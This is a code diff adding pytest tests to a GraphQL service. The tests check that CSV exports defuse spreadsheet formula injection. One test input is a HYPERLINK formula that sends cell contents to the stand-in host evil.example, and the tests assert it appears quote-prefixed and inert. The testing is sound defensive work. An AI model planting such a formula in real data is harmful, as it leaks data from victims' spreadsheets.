@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import csv
+import io
 import json
 import time
 from decimal import Decimal
@@ -12,13 +14,14 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from graphql import get_introspection_query
 from cryptography.hazmat.primitives import serialization
+from graphql import get_introspection_query
 from sqlalchemy import func, select, text
 from sqlalchemy.exc import IntegrityError
 
 from domain.audit.models import AuditEvent
 from domain.users import passwords
+from tests.api.test_access_report import current_quarter
 from tests.api.test_approvals import (
     APPROVE,
     PRICE,
@@ -27,7 +30,8 @@ from tests.api.test_approvals import (
     registered,
 )
 from tests.api.test_audit import events
-from tests.conftest import Api, errors_of, nothing_returned
+from tests.api.test_exports import approved, download
+from tests.conftest import Api, _api_for, errors_of, nothing_returned, settings_for
 from tests.integration.test_cli import _run
 
 EXPORT = """mutation($filter: JSON, $fields: [String!]!, $entity: ExportEntity!) {
@@ -566,3 +570,75 @@ async def test_graphiqls_introspection_query_still_fits(api: Api) -> None:
 
     assert "errors" not in result
     assert result["data"]["__schema"]["types"]
+
+
+# ---- 9. no CSV carries a live formula ------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+LOGIN_AS = (
+    'mutation($u: String!) { login(username: $u, password: "x-wrong-password") { accessToken } }'
+)
+
+
+def _cells(body: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+
+
+def _no_live_formula(body: str) -> None:
+    assert body.startswith("\ufeff")
+    cells = _cells(body.removeprefix("\ufeff"))
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [
+        c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
+    ]
+
+
+async def test_a_formula_typed_as_a_username_is_inert_in_the_access_report(
+    database_url: str, tmp_path: Path
+) -> None:
+    settings = settings_for(database_url, tmp_path, ORDERGATE_LOGIN_PER_ACCOUNT_PER_MINUTE="1")
+    async for api in _api_for(settings):
+        for _ in range(2):  # the second attempt is refused: a denied attempt in the report
+            await api.gql(LOGIN_AS, {"u": FORMULA})
+
+        result = await api.gql(
+            "query($q: String!) { accessReport(quarter: $q, format: CSV) { content } }",
+            {"q": current_quarter()},
+            as_="compliance",
+        )
+
+        content = result["data"]["accessReport"]["content"]
+        _no_live_formula(content)
+        assert "'" + FORMULA in _cells(content.removeprefix("\ufeff"))
+
+
+async def test_the_audit_export_starts_with_a_bom_and_neutralises_formulas(
+    api: Api, database_url: str, tmp_path: Path
+) -> None:
+    await api.gql(LOGIN_AS, {"u": FORMULA})
+    output = tmp_path / "audit.csv"
+
+    done = await asyncio.to_thread(
+        _run, ["audit", "export", "--output", str(output)], database_url, tmp_path
+    )
+
+    assert done.returncode == 0, done.stderr
+    body = output.read_text(encoding="utf-8")
+    _no_live_formula(body)
+    assert "'" + FORMULA in _cells(body.removeprefix("\ufeff"))
+
+
+async def test_channel_supplied_names_are_inert_in_data_exports(api: Api) -> None:
+    async with api.app.state.runtime.sessions() as session:
+        await session.execute(
+            text("UPDATE customers SET name = :n WHERE id = (SELECT min(id) FROM customers)"),
+            {"n": "=1+1"},
+        )
+        await session.commit()
+    made = await approved(
+        api, as_="finance", entity="CUSTOMERS", fields=["id", "name"], filter=None
+    )
+
+    body = (await download(api, made["downloadUrl"], as_="finance")).content.decode("utf-8")
+
+    _no_live_formula(body)
